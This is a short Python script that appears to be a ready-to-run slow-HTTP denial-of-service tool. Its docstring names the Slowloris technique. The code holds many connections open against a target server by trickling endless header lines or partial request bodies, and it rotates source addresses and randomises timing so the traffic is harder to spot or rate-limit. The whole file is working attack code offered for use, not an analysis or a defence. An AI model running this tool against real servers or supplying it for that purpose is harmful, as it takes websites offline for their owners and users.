"""HTTP requests that never end. In part "headers" the headers never end (Slowloris); in part "body" they do, and the body
comes a few bytes at a time. Usage: slow_http.py SERVER PORT HOST CONNECTIONS SECONDS EVERY PART FROM..."""

import random
import socket
import sys
import time


def main():
    server, port, host = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    count, seconds, every = int(sys.argv[4]), float(sys.argv[5]), float(sys.argv[6])
    part, sources = sys.argv[7], sys.argv[8:]
    end, open_ones = time.monotonic() + seconds, []
    for number in range(count):
        source = sources[number % len(sources)]
        connection = socket.create_connection((server, port), 5, (source, 0))
        line = "GET /" if part == "headers" else "POST /upload/"
        more = "" if part == "headers" else "Content-Length: 100000\r\n\r\n"
        connection.sendall(f"{line}?{random.randint(1, 9999)} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0\r\n{more}".encode())
        open_ones.append(connection)
        time.sleep(random.uniform(0.05, 0.6))
    while time.monotonic() < end:
        for connection in list(open_ones):
            try:
                connection.sendall(f"X-a: {random.randint(1, 5000)}\r\n".encode())  # In a body these are bytes like any others.
            except OSError:
                open_ones.remove(connection)
        time.sleep(max(0.0, min(every, end - time.monotonic())))


if __name__ == "__main__":
    main()
